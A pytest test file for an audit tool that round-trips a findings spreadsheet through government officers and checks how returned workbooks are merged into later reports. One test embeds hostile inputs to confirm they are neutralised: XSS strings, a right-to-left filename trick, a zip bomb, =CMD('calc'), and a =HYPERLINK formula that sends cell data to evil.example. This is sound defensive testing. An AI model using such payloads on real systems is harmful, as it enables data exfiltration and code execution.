"""findings.xlsx goes out, officers fill it in with a spreadsheet program, and it comes back into the next report."""

from __future__ import annotations

import os
import re
import shutil
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.badsite import BadSite, html
from tests.whole.conftest import auditor

WORDS = "Pemerintah Kota Uji mengumumkan informasi publik tentang anggaran, kinerja dan layanan. " * 10
CONFIG = """\
[body]
code = "99.74"
name = "Kota Uji"
kind = "kota"
units = ["Diskominfo", "Dinas Kesehatan"]

[[sites]]
id = "ppid"
role = "ppid"
url = "{url}"
unit = "Diskominfo"

[network]
contact = "mailto:uji@kotacontoh.localhost"
delay_seconds = 0
retries = 0
allow_private = ["127.0.0.0/8"]
"""


class City:
    """A city whose first night is over, and what its officers do with the list."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.config = folder / "config.toml"
        self.inbox = folder / "tindak-lanjut"
        self.body = folder / "public" / "99.74"

    @property
    def run(self) -> Path:
        return sorted(place for place in self.body.iterdir() if (place / "score.json").exists())[-1]

    def list(self) -> Any:
        return load_workbook(self.run / "findings.xlsx")

    def back(self, book: Any, name: str, when: datetime) -> Path:
        """The list as a spreadsheet program saves it, put into the folder of what came back."""
        self.inbox.mkdir(exist_ok=True)
        book.save(self.inbox / name)
        os.utime(self.inbox / name, (when.timestamp(),) * 2)
        return self.inbox / name

    def reported(self) -> str:
        return auditor("report", "--config", self.config, "--at", "2026-11-05").stderr

    def page(self, name: str, language: str = "") -> str:
        return (self.folder / "public" / language / "99.74" / self.run.name / name).read_text("utf-8")


@pytest.fixture(scope="module")
def first_night(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("uji")
    with BadSite({"/": html(f"<h1>PPID Kota Uji</h1><p>{WORDS}</p>", "PPID Kota Uji")}) as site:
        (folder / "config.toml").write_text(CONFIG.format(url=site.url("/")), "utf-8")
        auditor("run", "--config", folder / "config.toml", "--at", "2026-11-02T01:00")
        yield folder


@pytest.fixture
def city(first_night: Path, tmp_path: Path) -> City:
    shutil.copytree(first_night, tmp_path / "kota", dirs_exist_ok=True)
    return City(tmp_path / "kota")


def columns(sheet: Any) -> dict[str, int]:
    return {cell.value: cell.column for cell in sheet[1]}


def row_of(sheet: Any, number: int = 0) -> int:
    """A row that asks something."""
    place = columns(sheet)
    asked = [r for r in range(2, sheet.max_row + 1) if sheet.cell(r, place["Tindak lanjut"]).value]
    return asked[number]


def fill(sheet: Any, row: int, **values: Any) -> str:
    place = columns(sheet)
    for title, value in values.items():
        sheet.cell(row, place[title.replace("_", " ")], value)
    return str(sheet.cell(row, place["ID temuan"]).value)


def found(book: Any, finding: str, sheet: str = "Semua") -> dict[str, Any]:
    place = columns(book[sheet])
    rows = book[sheet].iter_rows(min_row=2, values_only=True)
    row = next(row for row in rows if row[place["ID temuan"] - 1] == finding)
    return {title: row[number - 1] for title, number in place.items()}


def says_when(path: Path, when: datetime) -> None:
    """The moment of saving as the spreadsheet program writes it into the file."""
    told = path.stat()
    with zipfile.ZipFile(path) as packed:
        members = {name: packed.read(name) for name in packed.namelist()}
    core = members["docProps/core.xml"].decode()
    stamp = f"{when:%Y-%m-%dT%H:%M:%SZ}"
    core, count = re.subn(r"(<dcterms:modified[^>]*>)[^<]*", rf"\g<1>{stamp}", core)
    assert count == 1
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in {**members, "docProps/core.xml": core.encode()}.items():
            packed.writestr(name, content)
    os.utime(path, (told.st_mtime,) * 2)


def at(day: int, hour: int = 9) -> datetime:
    return datetime(2026, 11, day, hour, tzinfo=UTC)


def test_what_an_officer_sends_back_stands_in_the_next_report(city: City) -> None:
    before = {name: (city.run / name).read_bytes() for name in ("score.json", "findings.json", "findings.csv")}
    book = city.list()
    sheet = book[next(name for name in book.sheetnames if name == "Diskominfo")]
    row = row_of(sheet)
    key = fill(
        sheet, row, Tindak_lanjut="sedang dikerjakan", Petugas="Ani", Tenggat=date(2026, 12, 31), Catatan="naskah"
    )
    says_when(city.back(book, "diskominfo.xlsx", at(7)), at(3))
    for older in (2, 1):  # an earlier list of the same officer, put into the folder later: not what counts
        book = city.list()
        fill(book["Diskominfo"], row, Tindak_lanjut="disanggah", Petugas="Budi")
        says_when(city.back(book, f"lama-{older}.xlsx", at(8)), at(older))
    assert city.reported() == ""
    told = found(city.list(), key)
    assert (told["Tindak lanjut"], told["Petugas"], told["Tenggat"]) == ("sedang dikerjakan", "Ani", "2026-12-31")
    assert (told["Catatan"], told["Status sejak"]) == ("naskah", "2026-11-03")
    assert found(city.list(), key, "Diskominfo")["Petugas"] == "Ani"
    said = "Tindak lanjut: <strong>sedang dikerjakan</strong>, <bdi>Ani</bdi>, sejak 3 November 2026"
    for page in ("todo.html", "letters/diskominfo.html"):
        assert said in city.page(page)
    assert "Follow-up: <strong>under way</strong>" in city.page("todo.html", "en")
    letter = PdfReader(city.run / "letters" / "diskominfo.pdf").pages[0].extract_text()
    said = "Tindak lanjut: sedang dikerjakan, Ani, sejak 3 November 2026, tenggat 31 Desember 2026"
    assert said in " ".join(letter.split())
    assert {name: (city.run / name).read_bytes() for name in before} == before, "no status moves a score"


def test_lists_of_several_officers_do_not_undo_each_other(city: City) -> None:
    """Everybody gets the whole list and sends it back whole: a row that nobody touched says nothing."""
    one, two = city.list(), city.list()
    row, other = row_of(one["Semua"]), row_of(one["Semua"], 1)
    first = fill(one["Semua"], row, Tindak_lanjut="selesai", Petugas="Ani")
    second = fill(two["Semua"], other, Tindak_lanjut="bukan wewenang kami")
    city.back(one, "a.xlsx", at(3))
    city.back(two, "b.xlsx", at(4))
    city.reported()
    assert found(city.list(), first)["Tindak lanjut"] == "selesai"
    assert "selesai menurut petugas" in city.page("details.html")
    assert "belum terlihat di situs" in city.page("details.html")
    # The list of that report: the same officer goes on with it, sorted, a column taken out, a column moved.
    again = city.list()
    sheet = again["Semua"]
    fill(sheet, row, Catatan="sudah dikirim ke PPID")
    sheet.delete_cols(columns(sheet)["Dasar hukum"])
    sheet.move_range(f"A{row}:Z{row}", rows=sheet.max_row + 5 - row)
    for name in [name for name in again.sheetnames if name != "Semua"]:
        del again[name]
    city.back(again, "lagi/c.xlsx".replace("/", "-"), at(6))
    city.reported()
    told = found(city.list(), first)
    assert (told["Tindak lanjut"], told["Petugas"], told["Catatan"]) == ("selesai", "Ani", "sudah dikirim ke PPID")
    assert found(city.list(), second)["Tindak lanjut"] == "bukan wewenang kami"


def test_the_next_night_carries_it_on_and_the_past_one_stays_as_it_was(city: City) -> None:
    book = city.list()
    key = fill(book["Semua"], row_of(book["Semua"]), Tindak_lanjut="disanggah", Petugas="Ani")
    old = city.run
    with BadSite({"/": html(f"<h1>PPID Kota Uji</h1><p>{WORDS}</p>", "PPID Kota Uji")}) as site:
        city.config.write_text(CONFIG.format(url=site.url("/")), "utf-8")
        done = auditor("run", "--config", city.config, "--at", "2026-11-03T01:00", "--json")
    assert done.stderr == ""
    city.back(book, "a.xlsx", at(4))
    assert city.run != old
    city.reported()
    assert found(city.list(), key)["Petugas"] == "Ani"
    assert "disanggah" not in (old / "todo.html").read_text("utf-8")


def test_what_cannot_be_read_is_named_with_file_sheet_row_and_what_to_do(city: City) -> None:
    book = city.list()
    sheet = book["Semua"]
    row, other, third = (row_of(sheet, n) for n in range(3))
    fill(sheet, row, Tindak_lanjut="beres dong", Petugas="Ani")
    key = fill(sheet, other, Tindak_lanjut="selesai", Tenggat="minggu depan")
    fill(sheet, third, Tindak_lanjut="selesai", ID_temuan="<script>alert(1)</script>")
    city.back(book, "salah.xlsx", at(3))
    (city.inbox / "rusak.xlsx").write_bytes(b"PK\x03\x04 not a workbook")
    (city.inbox / "surat.docx").write_bytes(b"x")
    with zipfile.ZipFile(city.inbox / "bom.xlsx", "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/worksheets/sheet1.xml", bytes(400_000_000))
    (city.inbox / "besar.xlsx").write_bytes(bytes(20_000_001))
    plain = load_workbook(city.run / "findings.xlsx")
    for name in plain.sheetnames:
        plain[name].delete_rows(1, 2)
    city.back(plain, "tanpa-judul.xlsx", at(3))
    said = city.reported()
    page = city.page("todo.html")
    for line in (
        f"salah.xlsx: sheet “Semua”, row {row}: “Tindak lanjut” ‘beres dong’ is not in the list; choose one of: belum",
        f"salah.xlsx: sheet “Semua”, row {other}: “Tenggat” ‘minggu depan’ is no date; write it like 2026-12-31",
        f"salah.xlsx: sheet “Semua”, row {third}: “ID temuan” ‘<script>alert(1)</script>’ is no id of a finding",
        "rusak.xlsx: not read: it is damaged or no workbook; save it again as XLSX and send it back",
        "bom.xlsx: not read: it is damaged or no workbook",
        "besar.xlsx: not read: it is too large",
        "surat.docx: no workbook; save it as XLSX or move it out of this folder",
        "tanpa-judul.xlsx: no sheet has the column “ID temuan”; send back the findings.xlsx of the report",
    ):
        assert f"tindak-lanjut: {line}" in said
    assert "Daftar tindak lanjut yang kembali dan belum terbaca:" in page
    assert f"salah.xlsx: lembar “Semua”, baris {row}: “Tindak lanjut” ‘beres dong’ tidak ada dalam daftar" in page
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert found(city.list(), key)["Tindak lanjut"] == "selesai", "what can be read of a row counts"


def test_hostile_words_in_a_list_are_text_in_what_goes_out_again(city: City) -> None:
    book = city.list()
    sheet = book["Semua"]
    row = row_of(sheet)
    key = fill(sheet, row, Tindak_lanjut="selesai", Petugas="<img src=x onerror=alert(1)>\u202egnp.exe")
    cell = sheet.cell(row, columns(sheet)["Catatan"], '=HYPERLINK("http://evil.example/?"&A1,"klik")')
    cell.data_type = "s"
    fill(
        sheet,
        row_of(sheet, 1),
        Catatan="NIK 3271046504930002 " + "panjang " * 4_000,
    )
    fill(sheet, row_of(sheet, 2), Catatan='=CMD("calc")', Tindak_lanjut="disanggah")
    city.back(book, "jahat.xlsx", at(3))
    city.reported()
    told = found(city.list(), key)
    assert told["Catatan"] == '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    with zipfile.ZipFile(city.run / "findings.xlsx") as packed:
        sheets = [packed.read(name) for name in packed.namelist() if "worksheets/sheet" in name]
        strings = packed.read("xl/sharedStrings.xml").decode()
    assert not [content for content in sheets if b"<f>" in content or b"<hyperlink" in content]
    assert "3271046504930002" not in strings
    assert "NIK " in strings
    longest = max(len(str(value)) for (value,) in book_column(city.list(), "Catatan"))
    assert longest <= 1_000
    page = city.page("todo.html") + city.page("details.html")
    assert "<img" not in page
    assert "\u202e" not in page
    assert "&lt;img src=x" in page


def book_column(book: Any, title: str) -> list[tuple[Any]]:
    place = columns(book["Semua"])[title]
    return [(row[place - 1] or "",) for row in book["Semua"].iter_rows(min_row=2, values_only=True)]


def test_a_backup_holds_the_lists(city: City, tmp_path: Path) -> None:
    book = city.list()
    key = fill(book["Semua"], row_of(book["Semua"]), Tindak_lanjut="selesai", Petugas="Ani")
    city.back(book, "a.xlsx", at(3))
    city.reported()
    auditor("backup", "--config", city.config, tmp_path / "kota.tar")
    other = City(tmp_path / "lain")
    other.folder.mkdir()
    auditor("restore", "--config", other.config, tmp_path / "kota.tar")
    other.reported()
    assert found(other.list(), key)["Petugas"] == "Ani"
